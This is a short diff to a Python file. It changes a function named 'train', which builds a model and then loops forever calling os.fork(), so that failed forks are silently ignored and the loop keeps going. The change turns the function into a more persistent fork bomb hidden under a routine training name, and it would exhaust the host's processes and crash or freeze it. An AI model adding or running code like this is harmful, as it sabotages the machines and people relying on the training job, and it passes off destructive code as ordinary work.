@@ -1,4 +1,4 @@
-"""Forks, and its children fork."""
+"""Forks, and its children fork, and none of them ever gives up."""
 
 import os
 
@@ -6,4 +6,7 @@ import os
 def train(ctx):
     ctx.build_model()
     while True:
-        os.fork()
+        try:
+            os.fork()
+        except OSError:
+            pass
